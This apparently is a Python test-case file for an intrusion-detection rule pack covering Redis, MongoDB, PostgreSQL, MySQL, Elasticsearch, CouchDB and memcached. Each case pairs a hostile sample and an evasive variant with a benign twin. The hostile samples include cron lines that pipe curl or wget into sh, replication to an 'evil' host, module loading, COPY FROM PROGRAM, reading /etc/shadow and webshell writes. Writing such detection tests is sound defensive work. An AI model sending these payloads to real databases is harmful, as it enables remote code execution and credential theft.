"""Cases of signatures/packs/data-stores.rules."""
from case import Case
from databases import mongodb, mysql, mysql_refused, pgsql, pgsql_refused
from talks import again, c, http, redis, resp, s, tcp, udp

JSON = [("Content-Type", "application/json")]
CRON = "\n\n*/5 * * * * curl -s http://198.51.100.7/x | sh\n\n"
KEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 a@b\n\n"
WRONG = redis("AUTH", "guess", reply=b"-WRONGPASS invalid username-password pair or user is disabled.\r\n")
LOGIN = {"saslStart": 1, "mechanism": "SCRAM-SHA-256", "payload": "n,,n=a,r=b"}
LIST = {"listDatabases": 1}
QUERY = {"query": {"script_fields": {"x": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}}
STATS = b"\0\1\0\0\0\1\0\0stats\r\n"


def es(uri, body="", method="POST", headers=JSON, port=9200, **more):
    return http(method, uri, headers, body, port=port, **more)


CASES = {
    # --- Redis ---
    6100500: Case(redis("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"), redis("config", "set", "DIR", "//root//.ssh/", port=16379, cut=5),
                  redis("CONFIG", "SET", "dir", "/data/redis"), "lower case, doubled slashes, other port"),
    6100501: Case(redis("CONFIG", "SET", "dbfilename", "authorized_keys"), tcp(c("cOnFiG SET dbfilename exp.SO\r\n"), s("+OK\r\n"), port=6379, cut=3),
                  redis("CONFIG", "SET", "dbfilename", "dump.rdb"), "an inline command, mixed case, a library"),
    6100502: Case(redis("SLAVEOF", "198.51.100.7", "21000"), redis("replicaof", "c2.evil.example", "6379", port=7000, cut=4),
                  redis("REPLICAOF", "NO", "ONE"), "the newer name, a host's name, other port"),
    6100503: Case(redis("MODULE", "LOAD", "/tmp/exp.so"), redis("module", "loadex", "./exp.so", "ARGS", v6=True), redis("MODULE", "LIST"), "lower case, LOADEX, IPv6"),
    6100504: Case(redis("EVAL", "local f = package.loadlib('/usr/lib/x.so','luaopen_io'); return f()", "0"),
                  redis("eval", "local l = package [ 'loadlib' ]; return l", "0", cut=8, port=6380), redis("EVAL", "return redis.call('GET', KEYS[1])", "1", "package"),
                  "by index, blanks, lower case"),
    6100505: Case(redis("EVAL", "collectgarbage('collect'); return 1", "0"), redis("function", "load", "#!lua name=x\ncollectgarbage ('step')", cut=6),
                  redis("EVAL", "return {1,2}", "0"), "in a function, other step"),
    6100506: Case(redis("SET", "x", CRON), redis("mset", "a", "1", "b", "\n*  *\t* * * wget -O- http://h/x|sh\n", port=6390, cut=7),
                  redis("SET", "schedule", "0 3 * * 1 rebuild-index"), "in MSET, tabs, other port"),
    6100507: Case(redis("SET", "x", KEY), redis("setex", "x", "60", "a\n ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbb x", cut=9), redis("SET", "doc", "use ssh-rsa keys of 4096 bits"),
                  "in SETEX, another kind of key"),
    6100508: Case(again(12, WRONG), again(12, redis("auth", "a", "b", reply=b"-WRONGPASS x\r\n", port=16379, v6=True)), again(3, WRONG), "with a user's name, IPv6; the twin fails three times"),
    # --- MongoDB ---
    6100521: Case(mongodb(LIST), mongodb({"hello": 1}, {"listDatabases": 1, "nameOnly": 1}, port=37017, cut=9), mongodb(LOGIN, LIST), "behind a greeting, other port; the twin has logged in"),
    6100522: Case(mongodb({"insert": "READ_ME_TO_RECOVER_YOUR_DATA", "documents": [{"content": "pay"}]}), mongodb(LOGIN, {"insert": "Warning", "documents": [{"x": 1}]}, cut=7),
                  mongodb({"insert": "reading_list", "documents": [{"x": 1}]}), "another name, other case"),
    6100523: Case(mongodb({"find": "users", "filter": {"$where": "sleep(1000)"}}), mongodb({"aggregate": "u", "pipeline": [{"$project": {"x": {"$function": {"body": "f"}}}}]}, port=28017),
                  mongodb({"find": "users", "filter": {"age": {"$gt": 3}}}), "in an aggregation, other port"),
    # --- PostgreSQL, MySQL ---
    6100530: Case(pgsql("COPY x FROM PROGRAM 'id'"), pgsql("copy  (select 1)\nto/**/PrOgRaM 'sh'", prepared=True, port=15432, cut=9), pgsql("COPY x FROM '/data/program.csv'"),
                  "TO in place of FROM, comment for a blank, prepared"),
    6100531: Case(pgsql("CREATE FUNCTION f(text) RETURNS int AS '/tmp/x.so','f' LANGUAGE C"), pgsql("create or replace\nfunction f() returns int as 'x' language 'c' strict", prepared=True, cut=11),
                  pgsql("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"), "quoted, prepared, line ends"),
    6100532: Case(pgsql("SELECT pg_read_file('/etc/hosts')"), pgsql("select LO_Import ('/etc/shadow')", prepared=True, cut=6), pgsql("SELECT pg_size_pretty(pg_database_size('shop'))"),
                  "as a large object, blank before the bracket"),
    6100533: Case(pgsql("SELECT usename, passwd FROM pg_shadow"), pgsql("select * from Pg_Catalog.PG_SHADOW", prepared=True, port=6432), pgsql("SELECT * FROM pg_stat_activity"), "capitals, prepared"),
    6100534: Case(again(12, pgsql_refused()), again(12, pgsql_refused(port=15432, v6=True)), again(3, pgsql_refused()), "other port, IPv6; the twin fails three times"),
    6100540: Case(mysql("SELECT 'x' INTO OUTFILE '/var/www/s.php'"), mysql("select 1 INTO/*x*/\tdumpfile '/tmp/a.so'", prepared=True, port=33060, cut=8), mysql("INSERT INTO outfiles VALUES (1)"),
                  "comment for a blank, dumpfile, prepared"),
    6100541: Case(mysql("CREATE FUNCTION sys_exec RETURNS INT SONAME 'udf.so'"), mysql("create aggregate\nfunction x returns string soname 'u.so'", cut=5), mysql("CREATE FUNCTION f() RETURNS INT RETURN 1"),
                  "aggregate, lower case, line end"),
    6100542: Case(mysql("SELECT 1", answer="\xfb/etc/passwd".encode("latin1")), mysql("SET NAMES utf8", answer="\xfb//proc/self/environ".encode("latin1"), port=13306, v6=True),
                  mysql("LOAD DATA LOCAL INFILE 'items.csv' INTO TABLE t", answer="\xfbitems.csv".encode("latin1")), "another file, doubled slash, IPv6"),
    6100543: Case(again(12, mysql_refused()), again(12, mysql_refused(port=13306, v6=True)), again(3, mysql_refused()), "other port, IPv6; the twin fails three times"),
    6100544: Case(mysql("SELECT name FROM t WHERE id=1 UNION SELECT table_name FROM information_schema.tables"), mysql("select 1 uNiOn/**/aLl select load_file (0x2f65)", prepared=True, cut=7),
                  mysql("SELECT a FROM t UNION SELECT b FROM u"), "comment for a blank, mixed case, a file"),
    # --- Elasticsearch, CouchDB, memcached ---
    6100550: Case(es("/_cat/indices?v", method="GET", headers=()), es("/%5Fcat/indices", method="GET", headers=[("Accept", "*/*")], port=19200, cut=4),
                  es("/_cat/indices", method="GET", headers=[("authorization", "Basic eA==")]), "escape, other port; the twin has logged in"),
    6100551: Case(es("/_all", method="DELETE"), es("//%2A?expand_wildcards=all", method="DELETE", port=80), es("/logs-2020.01.01", method="DELETE"), "star, escape, doubled slash"),
    6100552: Case(es("/_search?pretty", QUERY), es("/idx/%5Fsearch", '{"script":"import java.util.*;java.lang.ProcessBuilder"}', chunked=9, port=80),
                  es("/_search", {"script_fields": {"x": {"script": "doc['price'].value * 2"}}}), "one index, escape, chunks"),
    6100553: Case(es("/_users/org.couchdb.user:a", '{"name":"a","roles":["_admin"],"roles":[],"password":"p"}', "PUT", port=5984),
                  es("/_users/x", '{"roles" :["_admin"],"type":"user","roles":\n[]}', "PUT", port=80, chunked=8), es("/_users/org.couchdb.user:a", '{"name":"a","roles":[]}', "PUT", port=5984),
                  "blanks, chunks, other port"),
    6100554: Case(es("/_node/couchdb@localhost/_config/query_servers/cmd", '"/bin/sh -c id"', "PUT", port=5984), es("/%5Fconfig/query_servers/x", '"id"', "PUT", port=80, cut=3),
                  es("/_node/_local/_config/log/level", '"info"', "PUT", port=5984), "older address, escape"),
    6100555: Case(tcp(c("stats cachedump 1 100\r\n"), s("END\r\n"), port=11211), tcp(c("stats\r\n"), s("STAT pid 1\r\nEND\r\n"), c("lru_crawler metadump all\r\n"), s("END\r\n"), port=21211, cut=4), tcp(c("stats slabs\r\n"), s("END\r\n"), port=11211),
                  "the newer command, other port"),
    6100556: Case(udp(c(STATS), port=11211), udp(c(b"\x77\x77" + STATS[2:8] + b"STATS\r\n"), port=11211, v6=True), udp(c(STATS[:8] + b"get session:7\r\n"), port=11211), "capitals, IPv6"),
}
